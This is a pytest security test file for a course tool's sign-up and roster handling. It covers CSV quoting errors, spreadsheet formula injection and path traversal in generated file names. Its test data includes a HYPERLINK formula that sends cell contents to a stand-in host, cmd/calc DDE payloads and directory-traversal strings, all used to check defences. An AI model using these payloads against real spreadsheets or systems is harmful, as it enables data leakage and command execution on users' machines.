"""Sign-up sheets come from a form anyone can fill in, and the roster is a file anyone with the
repository can edit: quoting tricks are located errors (never a silent merge or a traceback),
no cell dlcourse writes runs as a spreadsheet formula, and no file name made from a student's
e-mail or a language code leaves its folder."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from dlcourse.util.csv_files import (
    FORMULA_STARTS,
    MAX_CELL_CHARS,
    from_spreadsheet_safe,
    spreadsheet_safe,
)
from tests.security.budget import Budget, Outcome, dlcourse, in_process
from tests.security.conftest import Sandbox, files_under

#: A scribe command on a few students: about a CPU-second of imports and work.
SCRIBE = Budget(cpu_s=15, memory_mib=1536, wall_s=120)
REPO = Path(__file__).resolve().parents[2]

HEADER = "Name,Email,Weeks,Role\n"
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def sheet(sandbox: Sandbox, text: str, name: str = "signups.csv") -> Path:
    path = sandbox.course / name
    path.write_text(text, encoding="utf-8")
    return path


def scribe(sandbox: Sandbox, *args: str) -> Outcome:
    """A scribe command typed inside the course folder (found there, as a user's would be), in
    process: these attacks steer paths and cells, not CPU or memory."""
    return in_process(*args, cwd=sandbox.course, env=sandbox.env())


def assign(sandbox: Sandbox, path: Path, *extra: str) -> Outcome:
    return scribe(sandbox, "scribe", "assign", path.name, "--fresh", *extra)


def roster_of(sandbox: Sandbox) -> Path:
    return sandbox.course / "scribe" / "roster.csv"


def assert_refused(outcome: Outcome, sandbox: Sandbox, before: bytes | None, *needles: str):
    assert outcome.killed_for is None, outcome.describe()
    assert outcome.returncode == 2, outcome.describe()
    assert "Traceback" not in outcome.output, outcome.describe()
    for needle in needles:
        assert needle in outcome.stderr, outcome.describe()
    after = roster_of(sandbox).read_bytes() if roster_of(sandbox).exists() else None
    assert after == before, "the roster changed although the sheet was refused"


def current_roster(sandbox: Sandbox) -> bytes | None:
    return roster_of(sandbox).read_bytes() if roster_of(sandbox).exists() else None


@pytest.mark.slow
def test_an_unclosed_quote_is_a_located_error_not_a_silent_merge(sandbox: Sandbox) -> None:
    # the quote opened on line 3 used to swallow the next rows: Ann vanished into one cell
    text = (
        HEADER
        + "Bo Chen,bc1001@nyu.edu,,\n"
        + '"Ann Lee,al1002@nyu.edu,,\n'
        + "Cy Diaz,cd1003@nyu.edu,,\n"
        + '"Di Eze",de1004@nyu.edu,,\n'
    )
    before = current_roster(sandbox)
    outcome = assign(sandbox, sheet(sandbox, text))
    assert_refused(outcome, sandbox, before, "signups.csv: row 3:", "opened on line 3")


@pytest.mark.slow
def test_a_quote_closed_lines_later_is_a_located_error(sandbox: Sandbox) -> None:
    # the quote closes on line 5, so csv reads lines 3-5 as one student: a silent merge
    text = HEADER + '"Ann Lee,al1002@nyu.edu,,\nBo Chen,bc1001@nyu.edu,,\nCy Diaz",cd@nyu.edu,,\n'
    before = current_roster(sandbox)
    outcome = assign(sandbox, sheet(sandbox, text))
    assert_refused(outcome, sandbox, before, "signups.csv: row 2:", "a cell runs over lines 2–4")


@pytest.mark.slow
def test_an_unclosed_quote_on_the_last_line_is_a_located_error(sandbox: Sandbox) -> None:
    text = HEADER + "Bo Chen,bc1001@nyu.edu,,\n" + '"Ann Lee,al1002@nyu.edu,,\n'
    before = current_roster(sandbox)
    outcome = assign(sandbox, sheet(sandbox, text))
    assert_refused(outcome, sandbox, before, "signups.csv: row 3:", "never closed")


@pytest.mark.slow
def test_a_cell_over_the_csv_limit_is_a_located_error_not_a_traceback(sandbox: Sandbox) -> None:
    text = HEADER + "Bo Chen,bc1001@nyu.edu,,\n" + "A" * (MAX_CELL_CHARS + 1) + ",a@nyu.edu,,\n"
    before = current_roster(sandbox)
    outcome = assign(sandbox, sheet(sandbox, text))
    assert_refused(outcome, sandbox, before, "signups.csv: row 3:", "longer than 131,072")


@pytest.mark.slow
def test_a_sheet_over_the_size_limit_is_refused_unread(sandbox: Sandbox) -> None:
    rows = "".join(f"Student {i},s{i}@nyu.edu,,\n" for i in range(10_001))
    before = current_roster(sandbox)
    path = sheet(sandbox, HEADER + rows)
    outcome = dlcourse(
        "scribe", "assign", path.name, "--fresh",
        cwd=sandbox.course, budget=SCRIBE, env=sandbox.env(),
    )  # fmt: skip  # a fresh process under its budget: "refused unread" is a cost
    assert_refused(outcome, sandbox, before, "over the limit of 10,000 students")


#: Four students: one scribe group (three writers and an editor), so every one is placed.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _formula_sheet() -> str:
    rows = [HEADER.strip()]
    for index, name in enumerate(FORMULAS):
        quoted = '"' + name.replace('"', '""') + '"'
        # an e-mail may start with "-" too
        email = "-t1@nyu.edu" if index == 2 else f"f{1000 + index}@nyu.edu"
        rows.append(f"{quoted},{email},,")
    return "\n".join(rows) + "\n"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.slow
def test_no_cell_of_a_written_csv_can_start_a_formula(sandbox: Sandbox) -> None:
    path = sheet(sandbox, _formula_sheet())
    outcome = assign(sandbox, path)
    assert outcome.returncode == 0, outcome.describe()
    status = scribe(sandbox, "scribe", "status", "--format", "csv", "--as-of", "2020-06-01")
    assert status.returncode == 0, status.describe()
    written = {"roster.csv": roster_of(sandbox).read_text("utf-8"), "status": status.stdout}
    for name, text in written.items():
        cells = _cells(text)
        assert cells, name
        # a number stays a number: '-1.0' (a negative write-up credit) is no formula
        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]
        assert not dangerous, f"{name}: {dangerous}"
    roster = roster_of(sandbox).read_text("utf-8")
    assert "'=HYPERLINK(" in roster and "'-t1@nyu.edu" in roster and "'@SUM(" in roster


@pytest.mark.slow
def test_guarded_cells_read_back_as_the_students_wrote_them(sandbox: Sandbox) -> None:
    assign(sandbox, sheet(sandbox, _formula_sheet()))
    report = scribe(sandbox, "scribe", "status", "--format", "json", "--as-of", "2020-06-01")
    assert report.returncode == 0, report.describe()
    names = {student["name"] for student in json.loads(report.stdout)["students"]}
    assert names == set(FORMULAS)


@pytest.mark.parametrize(
    "cell", [*FORMULAS, "'=quoted", "''+twice", "'plain", "plain", "-", "'", "-2.5", "'-2.5"]
)
def test_guarding_a_cell_and_reading_it_back_gives_the_cell(cell: str) -> None:
    guarded = spreadsheet_safe(cell)
    assert not guarded.startswith(FORMULA_STARTS) or NUMBER.match(guarded)
    assert from_spreadsheet_safe(guarded) == cell
    assert spreadsheet_safe("-2.5") == "-2.5"  # a plain number stays a number (Canvas imports)
    assert spreadsheet_safe(-1.5) == -1.5  # numbers are written as numbers


def test_every_csv_writer_in_dlcourse_goes_through_the_guarding_helper() -> None:
    # "every CSV we write": a new writer that bypasses util.csv_files fails here
    helper = REPO / "src" / "dlcourse" / "util" / "csv_files.py"
    offenders = [
        f"{path.relative_to(REPO)}:{number}"
        for path in sorted((REPO / "src").rglob("*.py"))
        if path != helper
        for number, line in enumerate(path.read_text("utf-8").splitlines(), start=1)
        if re.search(r"\bcsv\.(writer|DictWriter)\(", line)
    ]
    assert offenders == []


@pytest.mark.parametrize(
    ("email", "accepted"),
    [("/abs/path/x@nyu.edu", True), ("../../x@nyu.edu", False), ("a/b/x@nyu.edu", True)],
)
@pytest.mark.slow
def test_per_student_calendars_stay_in_their_folder_whatever_the_email(
    sandbox: Sandbox, email: str, accepted: bool
) -> None:
    text = HEADER + "Bo Chen,bc1001@nyu.edu,,\n" + f"Eve Hacker,{email},,\n"
    outcome = assign(sandbox, sheet(sandbox, text))
    if not accepted:  # not an e-mail address (RFC 5322: no leading dot)
        assert outcome.returncode == 2, outcome.describe()
        assert "malformed e-mail" in outcome.stderr
        return
    assert outcome.returncode == 0, outcome.describe()
    outside = files_under(sandbox.root / "outside")
    # the absolute id must not become a path: nothing may appear at /abs/path/ (a machine may
    # keep one from an older run, so compare before and after rather than test for absence)
    absolute_target = Path("/abs/path/x_at_nyu.edu.ics")
    absolute_before = absolute_target.stat().st_mtime_ns if absolute_target.exists() else None
    calendars = scribe(sandbox, "scribe", "calendar", "--per-student")
    assert calendars.returncode == 0, calendars.describe()
    written = sorted(p.name for p in (sandbox.course / "scribe" / "calendars").iterdir())
    assert "bc1001_at_nyu.edu.ics" in written and len(written) == 2, written
    assert all(re.fullmatch(r"[A-Za-z0-9._-]+\.ics", name) for name in written), written
    assert files_under(sandbox.root / "outside") == outside
    assert not list(sandbox.root.rglob("x_at_nyu.edu.ics"))  # nowhere but in calendars/
    absolute_after = absolute_target.stat().st_mtime_ns if absolute_target.exists() else None
    assert absolute_after == absolute_before


@pytest.mark.slow
def test_a_hand_edited_roster_cannot_steer_a_calendar_file_out_of_its_folder(
    sandbox: Sandbox,
) -> None:
    assign(sandbox, sheet(sandbox, HEADER + "Bo Chen,bc1001@nyu.edu,,\n"))
    roster = roster_of(sandbox).read_text("utf-8")
    evil = f"../../../outside/{'x' * 3}"
    roster_of(sandbox).write_text(roster.replace("bc1001@nyu.edu,Bo", f"{evil},Bo", 1), "utf-8")
    assert evil in roster_of(sandbox).read_text("utf-8")
    outside = files_under(sandbox.root / "outside")
    for args in (("--per-student",), ("--student", evil)):
        outcome = scribe(sandbox, "scribe", "calendar", *args)
        assert outcome.returncode == 0, outcome.describe()
    assert files_under(sandbox.root / "outside") == outside
    scribe_files = {p.name for p in (sandbox.course / "scribe").rglob("*.ics")}
    assert "outside-xxx.ics" in scribe_files, scribe_files


@pytest.mark.parametrize("language", ["../../../outside/x", "/tmp/evil", "xx"])
@pytest.mark.slow
def test_notes_new_refuses_a_language_the_course_does_not_have(
    sandbox: Sandbox, language: str
) -> None:
    assign(sandbox, sheet(sandbox, HEADER + "Bo Chen,bc1001@nyu.edu,,\n"))
    before = files_under(sandbox.root)
    outcome = scribe(sandbox, "notes", "new", "1", "1", "--lang", language, "--force")
    assert outcome.returncode == 2, outcome.describe()
    assert "Traceback" not in outcome.output
    assert f"--lang: language {language!r} is not one of the course's: en" in outcome.stderr
    assert files_under(sandbox.root) == before
